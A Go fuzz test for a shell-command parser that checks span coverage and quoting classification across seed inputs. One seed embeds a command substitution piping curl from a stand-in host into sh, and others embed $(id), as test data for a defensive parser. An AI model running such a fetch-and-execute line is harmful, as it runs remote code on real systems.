package shellread

import (
	"strings"
	"testing"
)

// FuzzRead checks that Read and ReadFor never panic, that their
// spans cover the input exactly, and that text the parser did not read is
// unquoted.
func FuzzRead(f *testing.F) {
	for _, s := range []string{
		"ls -la /tmp && make test",
		"/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019",
		"cat <<'EOF' >x\n$(id)\nEOF\necho done",
		"a=(1 2) b=$'\\x41' c=\"$(printf %s \"$x\")\" cmd -- -x # c",
		"echo 'unbalanced",
		"cat <<EOF\nno end",
		"if true; then",
		strings.Repeat("$(", 600),
		"case $x in a) echo `id`;; esac",
		"echo $((1<<2))\necho \u2018$(id)\u2019",
		"echo \"$(case x in a) echo \u2018$(id)\u2019;; esac)\"",
		"git commit -m \"Don\u2019t\" # caf\u00e9\ncat <<EOF\nna\u00efve\nEOF\n",
		"cat <<EOF\n$(echo \u2018x\u2019)\nEOF\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		r := Read(src)
		checkSpans(t, src, r)
		for _, u := range r.Unparsed {
			for i := u.Start; i < u.End; i++ {
				if s := r.At(i); s.Role != Argument || s.Quote != Unquoted {
					t.Fatalf("Read(%.40q): unparsed byte %d read as %v/%v", src, i, s.Role, s.Quote)
				}
			}
		}
		fast := ReadFor(src, nil)
		checkSpans(t, src, fast)
		// Where the parser reads the text, the lexer may place a
		// non-ASCII byte in code where the parser finds it quoted, never
		// the other way round. (Where it does not, the parser reads it
		// unquoted; the lexer reads the quotes as Bash tokenizes them.)
		for i := 0; i < len(src); i++ {
			if src[i] >= 0x80 && r.Parsed(i) && judged(r.At(i)) && !judged(fast.At(i)) {
				t.Fatalf("ReadFor(%+q): byte %d read as %v/%v, Read has %v/%v", src, i, fast.At(i).Role, fast.At(i).Quote, r.At(i).Role, r.At(i).Quote)
			}
		}
	})
}

// judged reports whether s is code the shell interprets: unquoted, and not
// a comment or a here-document body.
func judged(s Span) bool {
	return s.Quote == Unquoted && s.Role != Comment && s.Role != Heredoc
}
